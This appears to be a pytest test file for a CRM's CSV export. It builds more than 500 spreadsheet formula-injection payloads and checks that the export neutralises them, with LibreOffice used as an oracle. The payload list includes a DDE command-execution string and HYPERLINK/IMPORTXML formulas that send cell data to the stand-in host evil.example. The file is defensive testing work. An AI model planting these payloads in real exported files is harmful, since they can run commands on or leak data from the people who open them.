"""Five hundred ways to smuggle a formula into a spreadsheet: none is live in one mode, all are exact in the other.

The oracle is the documented behaviour of spreadsheets: a cell is live if its first visible character is a sign that
begins a formula, however the program takes the file apart. The long form asks LibreOffice itself.
"""

import csv
import io
import shutil
import subprocess
from collections.abc import Iterable, Iterator
from itertools import product
from pathlib import Path
from typing import NamedTuple
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from servicecrm.interop.customers import Mode, read_back, write_customers
from servicecrm.kernel.records import evolve
from servicecrm.kernel.spreadsheet import neutral, original
from servicecrm.kernel.values import ContactKind, ContactPoint
from servicecrm.portfolio import Customer, Observation
from servicecrm.portfolio.parts import Tenure
from servicecrm.testing.makers import MONDAY
from tests.portfolio.making import a_contact, a_customer

SIGNS = "=+-@＝＋－＠"  # noqa: RUF001 - the wide forms are meant
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u200b", "\ufeff", "; ", 'x";', "x\n", "x\t ")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    "SUM(1;2)",
    '"x"",=1+1',
)
PAYLOADS = tuple(f"{before}{sign}{body}" for before, sign, body in product(BEFORE, SIGNS, BODIES))

UNSEEN = "".join(map(chr, (*range(0x21), *range(0x7F, 0xA1), 0xAD, 0x1680, *range(0x2000, 0x2010), 0x3000, 0xFEFF)))

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


class Sheet(NamedTuple):
    """How many cells a spreadsheet has, and the formulas among them."""

    cells: int
    formulas: list[str]


def poisoned(payload: str, n: int) -> Customer:
    """A customer with the payload in every text that a person can write."""
    points = [ContactPoint(kind=kind, value=f"{payload}@a") for kind in ContactKind]
    return evolve(
        a_customer(id=f"c-{n}", contacts=[a_contact(name=payload, function=payload, points=points)]),
        number=payload,
        name=payload,
        parent=payload,
        services=frozenset({payload}),
        references=frozenset({payload}),
        tags=frozenset({payload, "plain"}),
        managers=(Tenure(manager=payload, deputy=payload, since=MONDAY),),
        profile=(Observation(field=payload, value=payload, source=payload, at=MONDAY),),
        leaving_reason=payload,
    )


def written(customers: list[Customer], mode: Mode) -> str:
    text = io.StringIO(newline="")
    write_customers(customers, text, mode=mode)
    return text.getvalue()


def raw(payloads: Iterable[str]) -> str:
    """A file with nothing but the payloads, as they are."""
    text = io.StringIO(newline="")
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([payload] for payload in payloads)
    return text.getvalue()


def cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def live(cell: str) -> bool:
    return cell.lstrip(UNSEEN)[:1] in tuple(SIGNS)


def test_there_are_more_than_500_payloads_and_each_of_them_is_live_as_it_is() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 500
    assert all(any(live(part) for part in _parts(payload)) for payload in PAYLOADS)


def _parts(cell: str) -> list[str]:
    for end in ";\t\r":
        cell = cell.replace(end, "\n")
    return cell.split("\n")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_payload_in_any_text_is_live_in_a_spreadsheet_however_it_takes_cells_apart(delimiter: str) -> None:
    text = written([poisoned(payload, n) for n, payload in enumerate(PAYLOADS)], "spreadsheet")

    found = list(cells(text, delimiter))
    assert len(found) > len(PAYLOADS)
    assert [cell for cell in found if live(cell)] == []


def test_people_still_read_every_payload_in_the_spreadsheet() -> None:
    rows = csv.DictReader(io.StringIO(written([poisoned(p, 0) for p in PAYLOADS], "spreadsheet"), newline=""))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        assert row["name"].replace("'", "") == payload.replace("'", "")


def test_every_payload_in_every_text_is_exact_in_an_interchange(tmp_path: Path) -> None:
    customers = [poisoned(payload, n) for n, payload in enumerate(PAYLOADS)]
    (tmp_path / "customers.csv").write_text(written(customers, "interchange"), "utf-8", newline="")

    assert list(read_back(tmp_path / "customers.csv")) == customers


@given(st.text(st.one_of(st.sampled_from(SIGNS + BEFORE[5] + "\u200b;\t\r\n' x"), st.characters(codec="utf-8"))))
def test_a_cell_without_a_place_for_a_formula_stays_as_it_is_and_no_other_is_live(cell: str) -> None:
    sheet = neutral(cell)

    assert not any(live(part) for part in _parts(sheet))
    if not any(live(part.lstrip("'")) for part in _parts(cell)) and cell[:1] not in tuple("\t\r\n'"):
        assert sheet == cell
    assert sheet.replace("'", "") == cell.replace("'", "")
    assert original(sheet) == cell


@pytest.fixture(scope="session")
def office(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, ...]:
    """LibreOffice with a profile of its own, so that no other one that runs is asked instead."""
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("needs LibreOffice, as the program that people open the file with")
    profile = tmp_path_factory.mktemp("profile").as_uri()
    return program, "--headless", f"-env:UserInstallation={profile}"


def opened(office: tuple[str, ...], file: Path, delimiter: str) -> Sheet:
    """What LibreOffice makes of a file whose cells end with this delimiter."""
    to = f"--infilter=CSV:{ord(delimiter)},34,76,1,,0,false,true,false,false,false,-1"
    told = [*office, to, "--convert-to", "fods", "--outdir", str(file.parent), str(file)]
    subprocess.run(told, check=True, capture_output=True, timeout=300)
    found = list(ElementTree.parse(file.with_suffix(".fods")).iter(f"{TABLE}table-cell"))
    return Sheet(len(found), [formula for cell in found if (formula := cell.get(f"{TABLE}formula"))])


@pytest.mark.torture
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_libreoffice_finds_no_formula_in_the_spreadsheet(  # C009, C130
    office: tuple[str, ...], tmp_path: Path, delimiter: str
) -> None:
    customers = [poisoned(payload, n) for n, payload in enumerate(PAYLOADS)]
    texts = {"spreadsheet": written(customers, "spreadsheet"), "raw": raw(PAYLOADS)}
    for name, text in texts.items():
        (tmp_path / f"{name}.csv").write_text(text, "utf-8-sig", newline="")
    sheets = {name: opened(office, tmp_path / f"{name}.csv", delimiter) for name in texts}

    assert sheets["spreadsheet"].cells > len(PAYLOADS)
    assert sheets["spreadsheet"].formulas == []
    # The control: whatever begins with the sign that LibreOffice knows is live as it is.
    assert len(sheets["raw"].formulas) == sum(payload.startswith("=") for payload in PAYLOADS) > 0
